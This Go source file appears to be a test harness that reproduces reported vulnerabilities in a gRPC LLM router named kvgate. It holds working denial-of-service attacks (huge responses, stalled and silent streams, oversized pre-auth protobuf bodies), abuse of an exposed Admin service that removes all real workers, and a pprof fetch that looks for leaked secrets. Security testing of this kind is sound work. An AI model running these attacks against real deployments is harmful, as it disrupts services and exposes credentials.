package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/structpb"

	kvgatev1 "github.com/kvgate/kvgate/api/gen/kvgate/v1"
)

// attackFunc runs one attack and records what its calls got. It returns when
// every call it made has ended, and at the latest soon after ctx ends.
type attackFunc func(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error

// attackNamed returns the attack of a -attack name.
func attackNamed(name string) (attackFunc, bool) {
	f, ok := map[string]attackFunc{
		"logprobs":          attackLogprobs,
		"embed":             attackEmbed,
		"silent-streams":    attackSilentStreams,
		"stalled-readers":   attackStalledReaders,
		"big-text-explain":  attackBigTextExplain,
		"big-text-generate": attackBigTextGenerate,
		"auth-struct":       attackAuthStruct,
		"auth-struct-chat":  attackAuthStructChat,
		"observe":           attackObserve,
		"admin":             attackAdmin,
		"pprof":             attackPprof,
		"load":              attackLoad,
	}[name]
	return f, ok
}

// fanOut runs call(i) for i in [0, n), at most conc at once (0: all), and
// records each outcome and duration.
func fanOut(ctx context.Context, n, conc int, t *tally, call func(ctx context.Context, i int) error) {
	if conc <= 0 || conc > n {
		conc = n
	}
	next := make(chan int, n)
	for i := 0; i < n; i++ {
		next <- i
	}
	close(next)
	var wg sync.WaitGroup
	for w := 0; w < conc; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				if ctx.Err() != nil {
					t.label("not sent (attack deadline)")
					continue
				}
				start := time.Now()
				err := call(ctx, i)
				t.add(err, time.Since(start))
			}
		}()
	}
	wg.Wait()
}

func u32(v uint32) *uint32 { return &v }

// attackLogprobs (issue item 1): Generate calls whose answer, prompt
// log-probabilities with 20 alternatives for 40,000 tokens, is larger than a
// gRPC client's default 4 MiB receive limit.
func attackLogprobs(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	router := kvgatev1.NewRouterClient(conn)
	ids := make([]uint32, c.ids)
	for i := range ids {
		ids[i] = uint32(32 + i%90)
	}
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
		defer cancel()
		return drain(router.Generate(ctx, &kvgatev1.GenerateRequest{
			InputIds: ids,
			SamplingParams: &kvgatev1.SamplingParams{
				MaxNewTokens: u32(1), PromptLogprobs: true, TopLogprobs: 20,
			},
		}))
	})
	return nil
}

// attackEmbed (item 2): Embed calls against engines that do not implement
// Embed (the script starts the simulators with --embedding-dim 0).
func attackEmbed(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	router := kvgatev1.NewRouterClient(conn)
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
		defer cancel()
		_, err := router.Embed(ctx, &kvgatev1.EmbedRequest{
			Inputs: []*kvgatev1.EmbedInput{{Text: fmt.Sprintf("embed me, attacker %d", i)}},
		})
		return err
	})
	return nil
}

// attackSilentStreams (item 3): Generate streams opened and never sent a
// request message, held for c.hold. A stream the router ends before then
// counts by its status; one still open at the end counts as "held".
func attackSilentStreams(ctx context.Context, c config, _ *grpc.ClientConn, t *tally) error {
	const conns = 8 // spread the streams as separate clients would
	cc, err := dialEach(c.router, conns)
	if err != nil {
		return err
	}
	defer closeAll(cc)
	hctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.hold)
	defer cancel()
	desc := &grpc.StreamDesc{StreamName: "Generate", ServerStreams: true}
	var wg sync.WaitGroup
	opened := time.Now()
	for i := 0; i < c.n; i++ {
		s, err := cc[i%conns].NewStream(hctx, desc, kvgatev1.Router_Generate_FullMethodName)
		if err != nil {
			t.add(err, 0)
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			err := s.RecvMsg(new(kvgatev1.GenerateResponse))
			if hctx.Err() != nil {
				t.label("held to the end")
				return
			}
			t.add(err, time.Since(opened))
		}()
	}
	t.notef("%d streams opened in %d ms, held %s", c.n, time.Since(opened).Milliseconds(), c.hold)
	wg.Wait()
	return nil
}

// attackStalledReaders opens n streamed Generates of 120,000 tokens each
// (ignore_eos), reads each one's first message and then nothing for the
// hold, as a client that stops reading its answer does; then reads each
// on, up to drainLimit messages, and records how it ended: a gRPC status,
// or "still streaming" when the answer was still coming. That is a client
// whose transport kept taking the answer though its application read
// nothing (grpc-go grows a client's flow-control windows with the link's
// bandwidth-delay product, up to 16 MiB a stream), so the router's sends
// never waited: nothing stalled for the send bound to cut.
func attackStalledReaders(ctx context.Context, c config, _ *grpc.ClientConn, t *tally) error {
	const (
		conns      = 8 // spread the streams as separate clients would
		tokens     = 120_000
		drainLimit = 12_000
	)
	conn, err := dialEach(c.router, conns)
	if err != nil {
		return err
	}
	defer closeAll(conn)
	var cc []kvgatev1.RouterClient
	for _, x := range conn {
		cc = append(cc, kvgatev1.NewRouterClient(x))
	}
	sctx, cancel := context.WithCancel(withKey(ctx, c.key))
	defer cancel()
	held := time.NewTimer(c.hold)
	defer held.Stop()
	release := make(chan struct{})
	var wg sync.WaitGroup
	opened := time.Now()
	for i := 0; i < c.n; i++ {
		ids := make([]uint32, 32)
		for j := range ids {
			ids[j] = uint32(1 + (i*len(ids)+j)%2000) // within the simulator's vocabulary (2,059)
		}
		ids[0] = uint32(1 + i%2000) // distinct prompts: no shared prefix
		limit := uint32(tokens)
		st, err := cc[i%conns].Generate(sctx, &kvgatev1.GenerateRequest{InputIds: ids, Stream: true,
			SamplingParams: &kvgatev1.SamplingParams{MaxNewTokens: &limit, IgnoreEos: true}})
		if err != nil {
			t.add(err, 0)
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, err := st.Recv(); err != nil {
				t.add(err, time.Since(opened))
				return
			}
			select {
			case <-release:
			case <-ctx.Done():
				return
			}
			for range drainLimit {
				m, err := st.Recv()
				if err != nil {
					t.add(err, time.Since(opened))
					return
				}
				if m.GetComplete() != nil {
					t.label("completed")
					return
				}
			}
			t.label("still streaming")
		}()
	}
	t.notef("%d streams of %d tokens opened in %d ms; each read one message, then none for %s, then up to %d more", c.n, tokens,
		time.Since(opened).Milliseconds(), c.hold, drainLimit)
	select {
	case <-held.C:
	case <-ctx.Done():
	}
	close(release)
	wg.Wait()
	return nil
}

// dialEach opens n connections to addr, as n clients would.
func dialEach(addr string, n int) ([]*grpc.ClientConn, error) {
	var cc []*grpc.ClientConn
	for range n {
		x, err := dial(addr)
		if err != nil {
			closeAll(cc)
			return nil, err
		}
		cc = append(cc, x)
	}
	return cc, nil
}

// closeAll closes connections.
func closeAll(cc []*grpc.ClientConn) {
	for _, x := range cc {
		_ = x.Close()
	}
}

// bigText returns n bytes of words, the same for every run.
func bigText(n int) string {
	r := rand.New(rand.NewPCG(21, 21))
	const letters = "abcdefghijklmnopqrstuvwxyz"
	var b strings.Builder
	b.Grow(n + 16)
	for b.Len() < n {
		w := 2 + r.IntN(9)
		for range w {
			b.WriteByte(letters[r.IntN(len(letters))])
		}
		if r.IntN(12) == 0 {
			b.WriteString(". ")
		} else {
			b.WriteByte(' ')
		}
	}
	return b.String()[:n]
}

// attackBigTextExplain (item 4): Admin.Explain calls with a text just under
// the router's default --max-request-bytes, far beyond the context length.
func attackBigTextExplain(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	admin := kvgatev1.NewAdminClient(conn)
	text := bigText(c.bytes)
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
		defer cancel()
		_, err := admin.Explain(ctx, &kvgatev1.ExplainRequest{
			Request: &kvgatev1.ExplainRequest_Generate{Generate: &kvgatev1.GenerateRequest{Text: text}},
		})
		return err
	})
	return nil
}

// attackBigTextGenerate (item 4): the same text through Generate.
func attackBigTextGenerate(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	router := kvgatev1.NewRouterClient(conn)
	text := bigText(c.bytes)
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
		defer cancel()
		return drain(router.Generate(ctx, &kvgatev1.GenerateRequest{
			Text: text, SamplingParams: &kvgatev1.SamplingParams{MaxNewTokens: u32(1)},
		}))
	})
	return nil
}

// bigStruct returns a Struct whose encoding is about n bytes: one list of
// numbers, each a message of its own, the shape that costs a decoder most
// per byte.
func bigStruct(n int) *structpb.Struct {
	const perValue = 11 // tag, length, tag, 8-byte double
	vals := make([]*structpb.Value, n/perValue)
	for i := range vals {
		vals[i] = structpb.NewNumberValue(float64(i) + 0.5)
	}
	return &structpb.Struct{Fields: map[string]*structpb.Value{
		"k": structpb.NewListValue(&structpb.ListValue{Values: vals}),
	}}
}

// rawCodec sends bytes already encoded and receives the answer's bytes
// undecoded, so that a call's duration is the router's time, not the
// attacker's encoding of the same 5 MB for every call.
type rawCodec struct{}

func (rawCodec) Name() string { return "proto" } // the content subtype the router expects

func (rawCodec) Marshal(v any) ([]byte, error) {
	b, ok := v.([]byte)
	if !ok {
		return nil, fmt.Errorf("rawCodec sends []byte, not %T", v)
	}
	return b, nil
}

func (rawCodec) Unmarshal(data []byte, v any) error {
	p, ok := v.(*[]byte)
	if !ok {
		return fmt.Errorf("rawCodec receives into *[]byte, not %T", v)
	}
	*p = append((*p)[:0], data...)
	return nil
}

// bigChat is a Chat request whose chat_template_kwargs is a Struct of about
// n encoded bytes.
func bigChat(n int) *kvgatev1.ChatRequest {
	return &kvgatev1.ChatRequest{
		Messages:           []*kvgatev1.ChatMessage{{Role: "user", Content: "hi"}},
		ChatTemplateKwargs: bigStruct(n),
		SamplingParams:     &kvgatev1.SamplingParams{MaxNewTokens: u32(1)},
	}
}

// attackAuthStruct (item 5): unary Admin.Explain calls carrying a Chat
// request whose chat_template_kwargs is a ~5 MB Struct, sent with a wrong
// key to a router started with --api-key.
func attackAuthStruct(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	body, err := proto.Marshal(&kvgatev1.ExplainRequest{Request: &kvgatev1.ExplainRequest_Chat{Chat: bigChat(c.bytes)}})
	if err != nil {
		return err
	}
	t.notef("%d-byte request", len(body))
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.wrongKey), c.callTimeout)
		defer cancel()
		var out []byte
		return conn.Invoke(ctx, kvgatev1.Admin_Explain_FullMethodName, body, &out, grpc.ForceCodec(rawCodec{}))
	})
	return nil
}

// attackAuthStructChat (item 5, every RPC): the same Struct and wrong key on
// Router.Chat, a server-streaming RPC of the public service.
func attackAuthStructChat(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	body, err := proto.Marshal(bigChat(c.bytes))
	if err != nil {
		return err
	}
	t.notef("%d-byte request", len(body))
	desc := &grpc.StreamDesc{StreamName: "Chat", ServerStreams: true}
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.wrongKey), c.callTimeout)
		defer cancel()
		s, err := conn.NewStream(ctx, desc, kvgatev1.Router_Chat_FullMethodName, grpc.ForceCodec(rawCodec{}))
		if err != nil {
			return err
		}
		if err := s.SendMsg(body); err != nil && !errors.Is(err, io.EOF) {
			return err
		}
		if err := s.CloseSend(); err != nil {
			return err
		}
		for j := 0; j < 1000; j++ {
			var out []byte
			if err := s.RecvMsg(&out); err != nil {
				if errors.Is(err, io.EOF) {
					return nil
				}
				return err
			}
		}
		return nil
	})
	return nil
}

// attackObserve watches for c.duration while c.concurrency streams send
// small valid requests, each with a new prompt (so the engines publish KV
// events): the attack itself comes from a hostile engine the script started.
func attackObserve(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	router := kvgatev1.NewRouterClient(conn)
	dctx, cancel := context.WithTimeout(ctx, c.duration)
	defer cancel()
	var wg sync.WaitGroup
	for w := range c.concurrency {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100000 && dctx.Err() == nil; i++ {
				start := time.Now()
				err := validGenerate(dctx, router, c, fmt.Sprintf("observer %d request %d: ", w, i))
				if dctx.Err() != nil {
					return // cut by the end of the watch, not an outcome
				}
				t.add(err, time.Since(start))
			}
		}()
	}
	wg.Wait()
	<-dctx.Done()
	return nil
}

// validGenerate sends one small valid text Generate with 8 new tokens.
func validGenerate(ctx context.Context, router kvgatev1.RouterClient, c config, prefix string) error {
	ctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
	defer cancel()
	return drain(router.Generate(ctx, &kvgatev1.GenerateRequest{
		Text:           prefix + "tell me about the routing of requests to workers with a warm cache",
		SamplingParams: &kvgatev1.SamplingParams{MaxNewTokens: u32(8)},
	}))
}

// attackAdmin (item 8): with the Admin service on the public port, add c.n
// workers at 127.0.0.1 ports where nothing listens, then remove every worker
// the router had at the start.
func attackAdmin(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	admin := kvgatev1.NewAdminClient(conn)
	lctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
	list, err := admin.ListWorkers(lctx, &kvgatev1.ListWorkersRequest{})
	cancel()
	t.counts["ListWorkers "+status.Code(err).String()]++
	// An attacker who cannot list the workers still knows their addresses.
	victims := splitList(c.workers)
	if err == nil {
		victims = victims[:0]
		for _, w := range list.GetWorkers() {
			victims = append(victims, w.GetAddress())
		}
	}
	dead := deadAddrs(c.deadPortBase, c.n)
	if len(dead) < c.n {
		return fmt.Errorf("found %d closed ports from %d, want %d", len(dead), c.deadPortBase, c.n)
	}
	g0 := goroutines(c.metrics)
	addStart := time.Now()
	add := newTally()
	fanOut(ctx, c.n, max(c.concurrency, 1), add, func(ctx context.Context, i int) error {
		ctx, cancel := context.WithTimeout(withKey(ctx, c.key), 10*time.Second)
		defer cancel()
		_, err := admin.AddWorker(ctx, &kvgatev1.AddWorkerRequest{
			Address: dead[i],
		})
		return err
	})
	addTook := time.Since(addStart)
	g1 := goroutines(c.metrics)
	rm := newTally()
	for _, addr := range victims {
		start := time.Now()
		rctx, cancel := context.WithTimeout(withKey(ctx, c.key), c.callTimeout)
		_, err := admin.RemoveWorker(rctx, &kvgatev1.RemoveWorkerRequest{Address: addr, DrainTimeoutSecs: 1})
		cancel()
		rm.add(err, time.Since(start))
	}
	for k, v := range add.counts {
		t.counts["AddWorker "+k] += v
	}
	for k, v := range rm.counts {
		t.counts["RemoveWorker "+k] += v
	}
	for k, v := range add.msgs {
		t.msgs["AddWorker "+k] += v
	}
	for k, v := range rm.msgs {
		t.msgs["RemoveWorker "+k] += v
	}
	t.lat = append(t.lat, add.lat...)
	t.notef("%d AddWorker in %.1f s, goroutines %s→%s; removed %d of %d original workers",
		c.n, addTook.Seconds(), gcell(g0), gcell(g1), rm.counts["OK"], len(victims))
	return nil
}

// deadAddrs returns n addresses 127.0.0.1:PORT, from base up, at which
// nothing accepts a connection now. Choose base below the kernel's ephemeral
// range: a port there may be another program's engine, which the attacked
// router would then send requests to.
func deadAddrs(base, n int) []string {
	var out []string
	for p := base; len(out) < n && p < base+2*n && p < 65536; p++ {
		addr := fmt.Sprintf("127.0.0.1:%d", p)
		conn, err := net.DialTimeout("tcp", addr, 200*time.Millisecond)
		if err == nil {
			conn.Close()
			continue
		}
		out = append(out, addr)
	}
	return out
}

// attackPprof (item 9): fetch /debug/pprof/cmdline and look for the keys.
func attackPprof(ctx context.Context, c config, _ *grpc.ClientConn, t *tally) error {
	if c.pprof == "" {
		return fmt.Errorf("-pprof is required")
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+c.pprof+"/debug/pprof/cmdline", nil)
	if err != nil {
		return err
	}
	hc := http.Client{Timeout: 5 * time.Second}
	resp, err := hc.Do(req)
	if err != nil {
		t.label("HTTP error")
		return err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	t.label(fmt.Sprintf("HTTP %d", resp.StatusCode))
	var seen []string
	for _, s := range splitList(c.secrets) {
		if strings.Contains(string(body), s) {
			seen = append(seen, s)
		}
	}
	if len(seen) > 0 {
		t.notef("cmdline shows %d of %d secrets: %s", len(seen), len(splitList(c.secrets)), strings.Join(seen, ", "))
	} else {
		t.notef("cmdline shows none of %d secrets", len(splitList(c.secrets)))
	}
	return nil
}

// attackLoad (item 10): c.n valid requests at c.concurrency against a fleet
// in which the script made one engine fail before its first token; every
// failure is a request another worker could have served.
func attackLoad(ctx context.Context, c config, conn *grpc.ClientConn, t *tally) error {
	router := kvgatev1.NewRouterClient(conn)
	fanOut(ctx, c.n, c.concurrency, t, func(ctx context.Context, i int) error {
		return validGenerate(ctx, router, c, fmt.Sprintf("load request %d: ", i))
	})
	failed := 0
	for k, v := range t.counts {
		if k != "OK" {
			failed += v
		}
	}
	t.notef("%d of %d failed", failed, c.n)
	return nil
}
